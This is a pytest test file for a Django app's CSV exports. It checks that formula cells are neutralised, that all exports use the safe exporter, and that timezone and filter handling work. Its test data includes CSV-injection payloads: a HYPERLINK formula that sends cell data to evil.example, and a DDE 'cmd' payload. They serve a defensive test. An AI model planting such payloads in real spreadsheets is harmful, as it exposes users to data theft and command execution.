"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django_tables2.export.views import ExportMixin

from tests.factories import InitiativeFactory
from tollgate.spreadsheet import restore
from tollgate.ui.exports import SafeTableExport, neutralise

PLANTED = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(("cell", "shown"), [
    (PLANTED, "'" + PLANTED),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-1,200.50", "-1,200.50"),  # a negative amount stays a number
    ("-12.5%", "-12.5%"),
    ("+3", "+3"),
    ("Claims triage", "Claims triage"),
    ("", ""),
    (-3, -3),
    (None, None),
])
def test_neutralise(cell, shown):
    assert neutralise(cell) == shown
    if isinstance(cell, str):
        assert restore(shown) == cell  # a file Tollgate wrote reads back as it was


def test_restore_takes_off_only_an_apostrophe_neutralise_added():
    assert restore("'Claims") == "'Claims"  # typed by a person: kept
    assert restore("'-1,200.50") == "'-1,200.50"  # a number is never neutralised, so its apostrophe is the person's


def _views(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _views(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            view = getattr(pattern.callback, "view_class", None)
            if view is not None:
                yield prefix + str(pattern.pattern), view


def test_every_list_export_goes_through_the_safe_exporter():
    exporting = [(route, view) for route, view in _views(get_resolver().url_patterns) if issubclass(view, ExportMixin)]
    assert len(exporting) >= 10
    unsafe = [route for route, view in exporting if not issubclass(view.export_class, SafeTableExport)]
    assert unsafe == []


def rows_of(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_planted_formula_comes_out_as_text(client, executive):
    InitiativeFactory(name=PLANTED, description="@cmd")
    client.force_login(executive)
    rows = rows_of(client.get(reverse("portfolio:initiative_list") + "?_export=csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PLANTED in cells
    assert PLANTED not in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_only_csv_is_exported(client, executive):
    client.force_login(executive)
    response = client.get(reverse("portfolio:initiative_list") + "?_export=xlsx")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


def test_moments_export_as_the_pages_print_them_in_the_reader_s_zone():
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    from tollgate.ui.exports import _as_shown

    with timezone.override(ZoneInfo("Asia/Tokyo")):
        assert _as_shown("2026-10-16T12:01:00.002000+00:00") == "2026-10-16 21:01"
        assert _as_shown("2026-10-16 12:01:00+00:00") == "2026-10-16 21:01"
    assert _as_shown("2026-10-16") == "2026-10-16"  # a date stays a date
    assert _as_shown("Renewal 2026-10-16 12:01:00 noted") == "Renewal 2026-10-16 12:01:00 noted"  # text stays text
    assert _as_shown(42) == 42


@pytest.mark.django_db
@pytest.mark.parametrize("url_name, query, named", [
    ("portfolio:initiative_list", {"stage": "bogus"}, "Stage"),
    ("governance:audit", {"since": "2026-01-01", "until": "2025-01-01"}, "To"),
    ("portfolio:person_list", {"active": "maybe"}, "Active"),
])
def test_an_export_with_filters_that_are_not_valid_is_refused_naming_them(client, admin_user, url_name, query, named):
    client.force_login(admin_user)
    refused = client.get(reverse(url_name), {**query, "_export": "csv"})
    assert refused.status_code == 400 and refused["Content-Type"].startswith("text/plain")
    text = refused.content.decode()
    assert text.startswith("Nothing exported: the filters are not valid.\n") and f"\n{named}: " in text


def test_every_csv_download_is_declared_utf_8_as_the_list_exports_are(client, executive):
    from tests.factories import DepartmentFactory
    from tollgate.ui.exports import CSV_CONTENT_TYPE, csv_download

    DepartmentFactory(name="Claims — north")
    client.force_login(executive)
    listed = client.get(reverse("portfolio:department_list"), {"_export": "csv"})
    dashboard = client.get(reverse("portfolio:dashboard"), {"_export": "departments"})
    plain = csv_download("x.csv", ["Name"], [["Ask Northwind — web"]])
    assert listed["Content-Type"] == dashboard["Content-Type"] == plain["Content-Type"] == CSV_CONTENT_TYPE
    assert not any(r.content.startswith(b"\xef\xbb\xbf") for r in (listed, dashboard, plain))  # as the lists
    assert plain.content.decode("utf-8").splitlines()[1] == "Ask Northwind — web"
    assert csv_download("x.csv", ["Name"], [], bom=True).content.startswith("\ufeffName".encode())
